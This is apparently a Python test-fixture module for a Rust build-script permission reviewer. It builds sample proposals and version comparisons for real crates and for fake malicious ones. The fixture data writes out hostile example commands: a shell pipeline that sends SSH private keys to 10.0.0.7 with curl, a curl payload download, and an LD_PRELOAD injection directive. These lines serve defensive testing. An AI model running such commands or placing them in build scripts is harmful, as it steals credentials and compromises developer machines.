"""Proposals and comparisons as real build scripts lead to them."""

from __future__ import annotations

import dataclasses
import hashlib
from typing import TYPE_CHECKING

from buildperm.policy.access import Access, Outcome
from buildperm.policy.comparison import Comparison, SourceChange
from buildperm.policy.kinds import Kind
from buildperm.policy.proposal import Choice, Proposal, Reason, Risk
from buildperm.policy.rule import Rule
from buildperm.policy.snapshot import SeenAccess

if TYPE_CHECKING:
    from collections.abc import Sequence


SCRIPT = "build-script-build"
MANY = 5_000


def access(
    kind: Kind,
    target: str,
    *,
    count: int = 1,
    outcome: Outcome = Outcome.DONE,
    chain: Sequence[str] = (),
    example: str = "",
    sensitive: str = "",
) -> Access:
    """Make an access by the build script, or by a process below it."""
    return Access(
        kind, target, outcome, count, 1_000, 2_000, ((SCRIPT, *chain),), example, sensitive
    )


def proposal(
    crate: str,
    version: str,
    title: str,
    risk: Risk,
    note: str,
    evidence: Sequence[Access],
    *choices: Choice,
    locked: str = "",
    reason: Reason = Reason.ASKED,
) -> Proposal:
    """Make a proposal; without choices the accesses themselves are the only one."""
    exact = Choice("exactly this", tuple(Rule(each.kind, each.target) for each in evidence))
    digest = hashlib.sha256(f"{crate} {title}".encode()).hexdigest()[:12]
    return Proposal(
        digest,
        crate,
        version,
        title,
        choices or (exact,),
        risk,
        (note,),
        tuple(evidence),
        locked,
        reason,
    )


def exactly(kind: Kind, *patterns: str, title: str = "exactly this") -> Choice:
    """Make the narrowest choice."""
    return Choice(title, tuple(Rule(kind, pattern) for pattern in patterns))


def wider(kind: Kind, pattern: str, title: str, widening: str) -> Choice:
    """Make a wider choice."""
    return Choice(title, (Rule(kind, pattern),), widening=widening)


def preset(name: str, widening: str) -> Choice:
    """Make the choice of a preset."""
    return Choice(f"preset {name}", (), preset=name, widening=widening)


def realistic() -> list[Proposal]:
    """Return what a workspace with four well-known crates and a bad one asks for."""
    cc = preset("cc", "Also the archiver, the linker and `xcrun`, and every system header.")
    compiler = [
        access(Kind.EXEC, "cc", count=64, chain=("cc",),
               example="cc -O3 -ffunction-sections -fPIC -m64 -I include -c sqlite3.c"),
        access(Kind.EXEC, "ar", count=2, chain=("ar",), example="ar cq libsqlite3.a sqlite3.o"),
    ]  # fmt: skip
    return [
        proposal("openssl-sys", "0.9.104", "run pkg-config", Risk.MEDIUM,
                 "It runs a program of this machine that is found through PATH.",
                 [access(Kind.EXEC, "pkg-config", count=6, chain=("pkg-config",),
                         example="pkg-config --libs --cflags openssl")],
                 exactly(Kind.EXEC, "pkg-config", title="the program pkg-config"),
                 preset("pkg-config", "Also pkgconf, and every .pc file of the system.")),
        proposal("openssl-sys", "0.9.104", "run perl", Risk.HIGH,
                 "An interpreter does whatever the text says that it is given.",
                 [access(Kind.EXEC, "perl", chain=("make", "sh", "perl"),
                         example="perl -e ./Configure linux-x86_64 no-shared")]),
        proposal("openssl-sys", "0.9.104", "see 3 variables", Risk.LOW,
                 "Names of this crate's own: they say where OpenSSL is.",
                 [access(Kind.ENV, name, count=2, outcome=Outcome.FAILED)
                  for name in ("OPENSSL_DIR", "OPENSSL_LIB_DIR", "OPENSSL_STATIC")],
                 exactly(Kind.ENV, "OPENSSL_DIR", "OPENSSL_LIB_DIR", "OPENSSL_STATIC",
                         title="these 3 variables"),
                 wider(Kind.ENV, "OPENSSL_*", "every variable that begins with OPENSSL_",
                       "Also 4 that are set here and were not asked for.")),
        proposal("openssl-sys", "0.9.104", "read /etc/ssl/openssl.cnf", Risk.LOW,
                 "A file of the system that everybody may read.",
                 [access(Kind.READ, "/etc/ssl/openssl.cnf", chain=("openssl",))],
                 exactly(Kind.READ, "/etc/ssl/openssl.cnf", title="this file"),
                 wider(Kind.READ, "/etc/ssl/*", "every file in /etc/ssl",
                       "Also 2 files that were not seen."),
                 wider(Kind.READ, "/etc/ssl/**", "everything below /etc/ssl",
                       "Also 141 files that were not seen, the folder `private` left out.")),
        proposal("ring", "0.17.8", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("libsqlite3-sys", "0.30.1", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("libsqlite3-sys", "0.30.1", "see SQLITE_MAX_VARIABLE_NUMBER", Risk.LOW,
                 "A name of this crate's own.",
                 [access(Kind.ENV, "SQLITE_MAX_VARIABLE_NUMBER", outcome=Outcome.FAILED)]),
        proposal("zstd-sys", "2.0.13", "run the C compiler", Risk.LOW,
                 "A compiler reads sources and writes objects; it is held to the same grants.",
                 compiler, exactly(Kind.EXEC, "cc", "ar", title="the programs cc and ar"), cc),
        proposal("zstd-sys", "2.0.13", "link with -Wl,--exclude-libs", Risk.HIGH,
                 "An argument of the linker can name a program that the linker then runs.",
                 [access(Kind.DIRECTIVE, "rustc-link-arg=-Wl,--exclude-libs,ALL",
                         outcome=Outcome.REFUSED)]),
        proposal("telemetry-helper", "1.4.2", "connect to 10.0.0.7:443", Risk.CRITICAL,
                 "It also read a secret: what it read could leave this machine.",
                 [access(Kind.NET, "10.0.0.7:443", count=3, outcome=Outcome.REFUSED,
                         chain=("sh", "curl"), example="curl -s --data @- https://10.0.0.7/v1")],
                 locked="Network grants are not possible in this version."),
        proposal("telemetry-helper", "1.4.2", "read a private key", Risk.CRITICAL,
                 "Whoever has the key can log in elsewhere as you.",
                 [access(Kind.READ, "$HOME/.ssh/id_ed25519", outcome=Outcome.REFUSED,
                         chain=("sh", "cat"), example="/home/ann/.ssh/id_ed25519",
                         sensitive="a private key of SSH")],
                 locked="It is in the sensitive tier: grant it by hand, by its exact path and "
                        "with a reason."),
        proposal("telemetry-helper", "1.4.2", "run a shell", Risk.HIGH,
                 "A shell does whatever the text says that it is given.",
                 [access(Kind.EXEC, "/usr/bin/sh", count=2, chain=("sh",),
                         example="sh -c cat %7E/.ssh/id_* | curl -s --data @- https://10.0.0.7/v1")]),
        proposal("telemetry-helper", "1.4.2", "write into the workspace", Risk.HIGH,
                 "What it writes there is compiled, committed or run later.",
                 [access(Kind.WRITE, "$WORKSPACE/src/lib.rs", outcome=Outcome.REFUSED)],
                 exactly(Kind.WRITE, "$WORKSPACE/src/lib.rs", title="this file"),
                 wider(Kind.WRITE, "$WORKSPACE/src/*", "every file in $WORKSPACE/src",
                       "Also 11 files that were not touched.")),
        proposal("telemetry-helper", "1.4.2", "set LD_PRELOAD for rustc", Risk.CRITICAL,
                 "rustc and every program it starts would load that library first.",
                 [access(Kind.DIRECTIVE, "rustc-env=LD_PRELOAD=$OUT_DIR/libhook.so",
                         outcome=Outcome.REFUSED)],
                 locked="No grant opens this: a name that steers tools is always refused."),
    ]  # fmt: skip


SUMMARY = "4 of 212 build scripts need you: 5 decisions about 7 accesses."

BEFORE = b"""\
use std::env;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let version = probe(&env::var("RUSTC").unwrap());
    if version >= 77 {
        println!("cargo::rustc-cfg=has_c_str");
    }
}
"""

AFTER = b"""\
use std::env;
use std::process::Command;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    let version = probe(&env::var("RUSTC").unwrap());
    if version >= 80 {
        println!("cargo::rustc-cfg=has_c_str");
    }
    let told = Command::new("git").args(["describe", "--tags", "--always", "--dirty"]).output();
    println!("cargo::rustc-env=ARRAYREF_DESCRIBED={:?}", told.map(|out| out.stdout).ok());
}
"""


def updated() -> tuple[list[Proposal], dict[tuple[str, str], Comparison]]:
    """Return what a review after an update shows: every reason, and how scripts differ."""
    git = [access(Kind.EXEC, "git", chain=("git",), example="git describe --tags --always --dirty")]
    runs = ("run git", Risk.MEDIUM, "git reads whatever its settings say.", git)
    proto = [access(Kind.READ, f"$WORKSPACE/proto/{name}.proto") for name in ("pay", "user")]
    beside = wider(
        Kind.READ,
        "$WORKSPACE/proto/**",
        "everything that `read $WORKSPACE/proto/**` covers",
        "It is granted already, and allows more than what was seen.",
    )
    dropper = [
        access(
            Kind.EXEC,
            "curl",
            outcome=Outcome.REFUSED,
            chain=("sh", "curl"),
            example="curl -s https://10.0.0.7/x -o x",
        ),
        access(Kind.EXEC, "sh", chain=("sh",), example="sh -c curl -s https://10.0.0.7/x -o x"),
    ]
    proposals = [
        proposal("arrayref-helper", "0.1.3", "run curl, sh", Risk.HIGH,
                 "It talks to the network.", dropper),
        proposal("atomic-shim", "1.0.0", "is new, and stays within the baseline", Risk.LOW,
                 "It got into the graph by app → tokio → atomic-shim.", [],
                 Choice("nothing beyond the baseline", ()), locked="There is nothing to decide.",
                 reason=Reason.NEWCOMER),
        proposal("arrayref", "0.3.10", *runs),
        proposal("prost-build", "0.14.2", "new, but already allowed by `$WORKSPACE/proto/**`: read "
                 "2 files below $WORKSPACE/proto", Risk.LOW, "It is part of your workspace.",
                 proto, beside, reason=Reason.COVERED),
        proposal("prost-build", "0.14.2", *runs),
        proposal("shadow-rs", "1.5.0", *runs),
        proposal("shadow-rs", "1.5.0", "see the environment variable CI_JOB", Risk.LOW,
                 "An ordinary variable, read only.", [access(Kind.ENV, "CI_JOB")]),
        proposal("shadow-rs", "1.5.0", "made no use of exec `perl`", Risk.HIGH,
                 "`perl`: it runs whatever text it is given.", [],
                 exactly(Kind.EXEC, "perl", title="exec perl"), reason=Reason.UNUSED),
        proposal("gone-sys", "", "is not in Cargo.lock any more", Risk.MEDIUM,
                 "`ld`: linkers are large programs.", [],
                 exactly(Kind.EXEC, "ld", title="its whole table"), reason=Reason.UNUSED),
    ]  # fmt: skip
    done = [SeenAccess(Kind.EXEC, "git", Outcome.DONE)]
    protos = [SeenAccess(Kind.READ, each.target, Outcome.DONE) for each in proto]
    perl = SeenAccess(Kind.EXEC, "perl", Outcome.DONE)
    pay = SeenAccess(Kind.READ, "$WORKSPACE/proto/old.proto", Outcome.DONE)
    bad = [SeenAccess(each.kind, each.target, each.outcome) for each in dropper]
    compared = [
        Comparison(
            "arrayref-helper", "0.1.3", "", ("app", "blake3", "arrayref", "arrayref-helper"),
            ("no build script of it was ever reviewed",), tuple(bad), (), (),
            (SourceChange("build.rs", None, b'fn main() {\n    fetch("https://10.0.0.7/x");\n}\n'),),
        ),
        Comparison(
            "atomic-shim", "1.0.0", "", ("app", "tokio", "atomic-shim"),
            ("no build script of it was ever reviewed",), (), (), (),
            (SourceChange("build.rs", None, b"fn main() {}\n"),),
        ),
        Comparison(
            "arrayref", "0.3.10", "0.3.9", ("app", "blake3", "arrayref"),
            ("was 0.3.9", "cc 1.0.83 -> 1.2.1"), tuple(done), (), (),
            (SourceChange("build.rs", BEFORE, AFTER),),
        ),
        Comparison(
            "prost-build", "0.14.2", "0.14.1", ("app", "prost-build"), ("was 0.14.1",),
            (*done, *protos), (), (pay,), (),
            "those of 0.14.1 are not on this machine any more",
        ),
        Comparison(
            "shadow-rs", "1.5.0", "1.5.0", ("app", "shadow-rs"), ("features: + tokio, - default",),
            (*done, SeenAccess(Kind.ENV, "CI_JOB", Outcome.DONE)), (perl,), (pay,),
        ),
    ]  # fmt: skip
    return proposals, {(each.crate, each.version): each for each in compared}


def crowd(one: Proposal, crates: int) -> list[Proposal]:
    """Return many proposals, evenly over crates; twenty events stand behind each."""
    access = dataclasses.replace(one.evidence[0], count=20)
    return [
        dataclasses.replace(
            one,
            id=f"{number:012x}",
            crate=f"crate-{number * crates // MANY}",
            title=f"run tool {number}",
            risk=Risk(number % 4),
            evidence=(access,),
        )
        for number in range(MANY)
    ]
